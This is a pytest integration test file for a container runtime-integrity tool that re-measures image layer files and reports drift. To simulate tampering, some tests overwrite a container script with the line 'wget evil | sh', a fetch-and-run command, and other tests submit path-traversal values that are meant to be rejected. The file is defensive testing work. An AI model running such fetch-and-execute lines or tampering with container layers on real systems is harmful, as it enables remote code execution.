"""Runtime integrity with the real dockerd (overlay2) and a real control plane.

An image is built on the busybox base, registered with its layer and file
digests (`trustplane image register docker-daemon:…`), and run. The node
agent's re-measurement finds nothing on a clean container; after a file in
the image's layer directory is changed from the host (the container sees
the change), it reports the drift, the control plane logs it, and the
policy decides whether the agent stops the container.
"""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Iterator
from pathlib import Path

import docker
import pytest
from conftest import KeyPair, start_control_plane_or_fail
from control_helpers import Cli, assert_fails, entries_since, log_size
from cryptography.hazmat.primitives.asymmetric import ec
from jwcrypto import jwk

from trustplane.agent.runtime import ContainerCheck, RuntimeIntegrity, image_layer_dirs
from trustplane.agent.service import Agent, AgentConfig
from trustplane.api.images import LayerRecord, PublishedLayer
from trustplane.api.runtime import DriftReport
from trustplane.atomic import atomic_write
from trustplane.client import ControlClient
from trustplane.control.reference_files import map_digest
from trustplane.crypto.node_assertion import make_node_assertion
from trustplane.embedded.control_plane import RunningControlPlane
from trustplane.embedded.dockerd import DockerDaemon
from trustplane.embedded.registry import RunningRegistry
from trustplane.embedded.sample_images import build_image
from trustplane.embedded.swtpm import RunningSwtpm
from trustplane.errors import Forbidden, IntegrityError, MalformedError, NotFoundError

RUN_SH = b"#!/bin/sh\necho serving\n"


@pytest.fixture(scope="module")
def plane(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningControlPlane]:
    """A control plane of our own: the tests edit its policy."""
    server = start_control_plane_or_fail(tmp_path_factory.mktemp("runtime-integrity"))
    yield server
    server.stop()


@pytest.fixture(scope="module")
def admin(plane: RunningControlPlane) -> Iterator[ControlClient]:
    client = plane.admin()
    yield client
    client.close()


@pytest.fixture(scope="module")
def node_key(
    plane: RunningControlPlane, admin: ControlClient, tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, Path]:
    name = f"rt-{os.urandom(3).hex()}"
    signing = jwk.JWK.from_pyca(ec.generate_private_key(ec.SECP256R1()))
    admin.register_node(name, "host", signing.export_to_pem().decode())
    path = tmp_path_factory.mktemp("node") / "node.key"
    path.write_bytes(signing.export_to_pem(private_key=True, password=None))
    return name, path


@pytest.fixture
def node(plane: RunningControlPlane, node_key: tuple[str, Path]) -> Iterator[ControlClient]:
    name, path = node_key
    client = plane.client()
    client.login_node(
        name,
        make_node_assertion(
            jwk.JWK.from_pem(path.read_bytes()), name, plane.url + "/v1/auth/token"
        ),
    )
    yield client
    client.close()


def set_stop_on_drift(plane: RunningControlPlane, value: str | None) -> None:
    """Replace the policy's `runtime` section (one rename, as an operator's editor does)."""
    path = plane.data_dir / "policy.yaml"
    text = path.read_text().split("runtime:\n")[0]
    if value is not None:
        text += f"runtime:\n  stop_on_drift: {value}\n"
    atomic_write(path, text.encode(), mode=path.stat().st_mode & 0o777)


@pytest.fixture
def image(
    docker_client: docker.DockerClient,
    docker_daemon: DockerDaemon,
    busybox_base: str,
    plane: RunningControlPlane,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[str]:
    """A fresh two-layer image (busybox + /app), registered through the CLI."""
    repository = f"trustplane/runtime-{os.urandom(4).hex()}"
    tag = f"{repository}:1"
    build_image(
        docker_client,
        tag,
        f"FROM {busybox_base}\nCOPY app /app\n",
        {"app/run.sh": RUN_SH, "app/conf": os.urandom(16).hex().encode()},
    )
    monkeypatch.setenv("DOCKER_HOST", docker_daemon.base_url)
    cli = Cli(tmp_path / "session")
    cli.login(plane, "admin", plane.admin_password)
    result = cli("image", "register", f"docker-daemon:{tag}", "--image-name", repository, "--json")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["layerCount"] == 2
    yield tag
    for container in docker_client.containers.list(all=True, filters={"ancestor": tag}):
        container.remove(force=True)
    docker_client.images.remove(tag, force=True)


def run(docker_client: docker.DockerClient, tag: str) -> docker.models.containers.Container:
    return docker_client.containers.run(tag, ["sleep", "600"], detach=True)


def layer_dir(docker_client: docker.DockerClient, container_id: str, index: int) -> Path:
    return image_layer_dirs(docker_client.api.inspect_container(container_id))[index]


def drift_entries(admin: ControlClient, start: int) -> list[dict[str, object]]:
    return [e for e in entries_since(admin, start) if e["kind"] == "runtime.drift"]


def test_a_clean_container_passes_and_reports_nothing(
    image: str,
    docker_client: docker.DockerClient,
    docker_daemon: DockerDaemon,
    node: ControlClient,
    admin: ControlClient,
    plane: RunningControlPlane,
    busybox_base: str,
) -> None:
    container = run(docker_client, image)
    other = run(docker_client, busybox_base)  # not registered here: not measured
    try:
        start = log_size(plane)
        monitor = RuntimeIntegrity(docker_daemon.base_url)
        try:
            results = {r.container: r for r in monitor.check(node)}
        finally:
            monitor.close()
        assert results[container.id].status == "clean"
        assert results[container.id].repository == image.split(":")[0]
        assert results[other.id].status == "unregistered"
        assert drift_entries(admin, start) == []
    finally:
        other.remove(force=True)


def test_a_file_changed_from_the_host_is_reported_and_kept_by_default(
    image: str,
    docker_client: docker.DockerClient,
    docker_daemon: DockerDaemon,
    node: ControlClient,
    admin: ControlClient,
    plane: RunningControlPlane,
) -> None:
    set_stop_on_drift(plane, None)
    container = run(docker_client, image)
    target = layer_dir(docker_client, container.id, 1) / "app" / "run.sh"
    assert target.read_bytes() == RUN_SH
    target.write_bytes(b"#!/bin/sh\nwget evil | sh\n")
    seen = container.exec_run(["cat", "/app/run.sh"]).output
    assert b"evil" in seen  # the container runs the changed file
    start = log_size(plane)
    monitor = RuntimeIntegrity(docker_daemon.base_url)
    try:
        result = next(r for r in monitor.check(node) if r.container == container.id)
    finally:
        monitor.close()
    assert result.status == "drift"
    assert result.drift.changed == ("/app/run.sh",)
    assert result.drift.missing == result.drift.unexpected == ()
    assert result.action == "keep"
    assert not result.stopped
    container.reload()
    assert container.status == "running"
    [entry] = drift_entries(admin, start)
    assert entry["index"] == result.log_index
    assert entry["container"] == container.id
    assert entry["changed"] == ["/app/run.sh"]
    assert entry["action"] == "keep"
    assert entry["node"].startswith("node:rt-")  # type: ignore[union-attr]


def test_drift_stops_the_container_when_the_policy_says_so(
    image: str,
    docker_client: docker.DockerClient,
    docker_daemon: DockerDaemon,
    plane: RunningControlPlane,
    admin: ControlClient,
    node_key: tuple[str, Path],
    tmp_path: Path,
) -> None:
    set_stop_on_drift(plane, '["image:trustplane/runtime-*"]')
    container = run(docker_client, image)
    base_layer = layer_dir(docker_client, container.id, 0)
    app_layer = layer_dir(docker_client, container.id, 1)
    (app_layer / "app" / "conf").unlink()
    (app_layer / "app" / "implant").write_bytes(b"x")
    name, key = node_key
    agent = Agent(
        AgentConfig(
            server_url=plane.url,
            tcti="unused:runtime-only",
            node=name,
            node_key=key,
            state_dir=tmp_path / "agent",
            ca_file=plane.ca_file,
            docker_url=docker_daemon.base_url,
        )
    )
    start = log_size(plane)
    try:
        results = agent.runtime_round()
    finally:
        set_stop_on_drift(plane, None)
    result = next(r for r in results if r.container == container.id)
    assert result.status == "drift"
    assert result.drift.missing == ("/app/conf",)
    assert result.drift.unexpected == ("/app/implant",)
    assert result.action == "stop"
    assert result.stopped
    container.reload()
    assert container.status == "exited"
    [entry] = drift_entries(admin, start)
    assert entry["action"] == "stop"
    assert entry["missing"] == ["/app/conf"]
    assert (base_layer / "bin" / "busybox").exists()  # the shared base was left alone


def test_a_reported_drift_is_logged_once_per_change(
    image: str,
    docker_client: docker.DockerClient,
    docker_daemon: DockerDaemon,
    plane: RunningControlPlane,
    admin: ControlClient,
    node_key: tuple[str, Path],
    tmp_path: Path,
) -> None:
    """A drift the policy only reports is found again every round; it is logged once,
    again when what was found changes, and again when the policy's answer changes."""
    set_stop_on_drift(plane, None)
    container = run(docker_client, image)
    app_layer = layer_dir(docker_client, container.id, 1)
    (app_layer / "app" / "run.sh").write_bytes(b"#!/bin/sh\nwget evil | sh\n")
    name, key = node_key
    agent = Agent(
        AgentConfig(
            server_url=plane.url,
            tcti="unused:runtime-only",
            node=name,
            node_key=key,
            state_dir=tmp_path / "agent",
            ca_file=plane.ca_file,
            docker_url=docker_daemon.base_url,
        )
    )

    def mine(results: list[ContainerCheck]) -> ContainerCheck:
        return next(r for r in results if r.container == container.id)

    start = log_size(plane)
    first = [mine(agent.runtime_round()) for _ in range(4)]
    assert [r.status for r in first] == ["drift"] * 4
    assert [r.action for r in first] == ["keep"] * 4
    assert [r.repeated for r in first] == [False, True, True, True]
    [entry] = drift_entries(admin, start)
    assert {r.log_index for r in first} == {entry["index"]}
    assert entry["changed"] == ["/app/run.sh"]

    # Another file changes: what is found is new, so it is logged once more.
    (app_layer / "app" / "conf").write_bytes(b"tampered")
    second = [mine(agent.runtime_round()) for _ in range(3)]
    assert [r.repeated for r in second] == [False, True, True]
    entries = drift_entries(admin, start)
    assert len(entries) == 2
    assert entries[1]["changed"] == ["/app/conf", "/app/run.sh"]
    assert {r.log_index for r in second} == {entries[1]["index"]}

    # The policy now stops such containers: the same drift gets a new answer, logged.
    set_stop_on_drift(plane, "true")
    try:
        stopped = mine(agent.runtime_round())
    finally:
        set_stop_on_drift(plane, None)
    assert (stopped.action, stopped.stopped, stopped.repeated) == ("stop", True, False)
    entries = drift_entries(admin, start)
    assert [e["action"] for e in entries] == ["keep", "keep", "stop"]
    container.reload()
    assert container.status == "exited"


def test_a_repeat_claim_is_checked_against_the_log(
    node: ControlClient, admin: ControlClient, plane: RunningControlPlane
) -> None:
    """A node that says "the same as entry N" is believed only when entry N is its own
    runtime.drift with exactly this content; otherwise the report is logged."""
    fingerprint = "1" * 64
    start = log_size(plane)
    first = node.report_drift(DriftReport.model_validate({**DRIFT, "fingerprint": fingerprint}))
    same = node.report_drift(
        DriftReport.model_validate(
            {**DRIFT, "fingerprint": fingerprint, "repeat_of": first.log_index}
        )
    )
    assert (same.log_index, same.repeated) == (first.log_index, True)
    assert log_size(plane) == start + 1
    # Another content under the same claim, another container, a claim naming an entry
    # of another kind: each is logged as new.
    other = {"changed": ["/app/conf"], "fingerprint": "2" * 64}
    for change in (
        other,
        {"container": "cd" * 32, "fingerprint": fingerprint},
        {"fingerprint": fingerprint, "repeat_of": start - 1},
    ):
        answer = node.report_drift(
            DriftReport.model_validate({**DRIFT, "repeat_of": first.log_index, **change})
        )
        assert answer.repeated is False
        assert answer.log_index > first.log_index
    assert len(drift_entries(admin, start)) == 4


def test_the_agent_command_re_measures_and_reports(
    image: str,
    docker_client: docker.DockerClient,
    docker_daemon: DockerDaemon,
    plane: RunningControlPlane,
    admin: ControlClient,
    swtpm: RunningSwtpm,
    tmp_path: Path,
) -> None:
    """`trustplane agent --once --docker URL`: attests, then one runtime round."""
    name = f"rt-cli-{os.urandom(3).hex()}"
    signing = jwk.JWK.from_pyca(ec.generate_private_key(ec.SECP256R1()))
    admin.register_node(name, "host", signing.export_to_pem().decode())
    key = tmp_path / "node.key"
    key.write_bytes(signing.export_to_pem(private_key=True, password=None))
    container = run(docker_client, image)
    (layer_dir(docker_client, container.id, 1) / "app" / "run.sh").write_bytes(b"changed")
    start = log_size(plane)
    result = Cli(tmp_path / "session.json")(
        "agent",
        "--server",
        plane.url,
        "--ca",
        str(plane.ca_file),
        "--tpm",
        swtpm.tcti,
        "--node",
        name,
        "--node-key",
        str(key),
        "--state-dir",
        str(tmp_path / "state"),
        "--docker",
        docker_daemon.base_url,
        "--once",
        timeout=180,
    )
    assert result.returncode == 0, result.stderr
    container_name = container.name
    assert (
        f"{name}: container {container_name} ({image.split(':')[0]}): drift: "
        "1 changed, 0 missing, 0 unexpected; keep" in result.stdout
    ), result.stdout
    [entry] = drift_entries(admin, start)
    assert entry["node"] == f"node:{name}"
    assert entry["changed"] == ["/app/run.sh"]


def test_encrypt_register_sends_the_plain_layers_file_digests(
    image: str,
    plane: RunningControlPlane,
    admin: ControlClient,
    registry_plain: RunningRegistry,
    keys: dict[str, KeyPair],
    tmp_path: Path,
) -> None:
    cli = Cli(tmp_path / "session-encrypt")
    cli.login(plane, "admin", plane.admin_password)
    repository = f"{registry_plain.host}/runtime/app-{os.urandom(3).hex()}"
    result = cli(
        "image",
        "encrypt",
        f"docker-daemon:{image}",
        f"docker://{repository}:1",
        "--recipient",
        f"jwe:{keys['ec-p256'].public}",
        "--layers",
        "1",
        "--register",
        "--quiet",
        "--json",
    )
    assert result.returncode == 0, result.stderr
    published = json.loads(result.stdout)
    layers = admin.image_files(repository, published["manifestDigest"]).layers
    assert [layer.index for layer in layers] == [0, 1]
    base, app = (layer.files or {} for layer in layers)
    assert app == {
        "/app/run.sh": "sha256:" + hashlib.sha256(RUN_SH).hexdigest(),
        "/app/conf": app["/app/conf"],
    }
    assert base["/bin/sh"] == "symlink:/bin/busybox"
    entry = json.loads(admin.log_entry(published["registeredLogIndex"]))
    assert entry["files"] == {str(layer.index): map_digest(layer.files or {}) for layer in layers}


# -- hostile input ------------------------------------------------------------------

LAYER = {
    "index": 0,
    "digest": "sha256:" + "a" * 64,
    "encrypted": False,
    "diff_id": "sha256:" + "b" * 64,
}
GOOD_FILES = {"/bin/sh": "symlink:/bin/busybox", "/bin/busybox": "sha256:" + "c" * 64}


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"bin/sh": "whiteout"}, "not absolute and normal"),
        ({"/bin/../etc/passwd": "whiteout"}, "not absolute and normal"),
        ({"/bin/sh": "md5:abc"}, "unknown reference value"),
        ({"/bin/sh": "symlink:"}, "unknown reference value"),
        ({"/bin/sh": 7}, "files"),
    ],
)
def test_malformed_file_digests_are_refused_whole(
    admin: ControlClient, files: dict[str, object], message: str
) -> None:
    repository = f"hostile/{os.urandom(3).hex()}"
    image = {
        "repository": repository,
        "manifest_digest": "sha256:" + "d" * 64,
        "layers": [{**LAYER, "files": files}],
    }
    with pytest.raises(MalformedError, match=message):
        admin.request("POST", "/v1/images", json=image)
    assert admin.images(repository) == []


def test_reference_files_are_never_replaced(admin: ControlClient) -> None:
    repository = f"hostile/{os.urandom(3).hex()}"
    manifest = "sha256:" + "e" * 64
    with pytest.raises(MalformedError, match="distinct"):
        admin.register_image(repository, manifest, [LayerRecord(**LAYER), LayerRecord(**LAYER)])
    good = PublishedLayer(**LAYER, files=GOOD_FILES)
    admin.register_image(repository, manifest, [good])
    admin.register_image(repository, manifest, [good])  # same: fine
    with pytest.raises(IntegrityError, match="not replaced"):
        admin.register_image(
            repository,
            manifest,
            [PublishedLayer(**LAYER, files={**GOOD_FILES, "/bin/sh": "whiteout"})],
        )
    other = good.model_copy(update={"digest": "sha256:" + "f" * 64})
    with pytest.raises(IntegrityError, match="other layers"):
        admin.register_image(repository, manifest, [other])
    [layer] = admin.image_files(repository, manifest).layers
    assert layer.files == GOOD_FILES
    with pytest.raises(NotFoundError, match="not registered"):
        admin.image_files(repository, "sha256:" + "0" * 64)


DRIFT = {
    "container": "ab" * 32,
    "repository": "trustplane/x",
    "manifest_digest": "sha256:" + "e" * 64,
    "changed": ["/app/run.sh"],
    "counts": {"changed": 1, "missing": 0, "unexpected": 0},
}


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"container": "../../etc"}, "container"),
        ({"changed": ["app/run.sh"]}, "absolute"),
        ({"counts": {"changed": 0, "missing": 0, "unexpected": 0}}, "more paths than"),
        ({"changed": [], "counts": {"changed": 0, "missing": 0, "unexpected": 0}}, "names drifted"),
        (
            {"changed": ["/x"] * 101, "counts": {"changed": 101, "missing": 0, "unexpected": 0}},
            "changed",
        ),
        ({"manifest_digest": "latest"}, "manifest_digest"),
    ],
)
def test_malformed_drift_reports_are_refused_and_not_logged(
    node: ControlClient, plane: RunningControlPlane, change: dict[str, object], message: str
) -> None:
    start = log_size(plane)
    with pytest.raises(MalformedError, match=message):
        node.request("POST", "/v1/runtime/drift", json={**DRIFT, **change})
    assert log_size(plane) == start


def test_only_nodes_report_drift(admin: ControlClient, plane: RunningControlPlane) -> None:
    start = log_size(plane)
    with pytest.raises(Forbidden, match="only nodes"):
        admin.report_drift(DriftReport.model_validate(DRIFT))
    assert log_size(plane) == start


def test_image_register_fails_with_one_clear_line(
    plane: RunningControlPlane,
    admin: ControlClient,
    docker_daemon: DockerDaemon,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("DOCKER_HOST", docker_daemon.base_url)
    cli = Cli(tmp_path / "session")
    cli.login(plane, "admin", plane.admin_password)
    missing = f"trustplane/absent-{os.urandom(3).hex()}"
    assert_fails(
        cli("image", "register", f"docker-daemon:{missing}:1", "--image-name", missing),
        3,
        "no such image",
    )
    assert_fails(cli("image", "register", f"docker-daemon:{missing}:1"), 2, "--image-name")
    assert admin.images(missing) == []
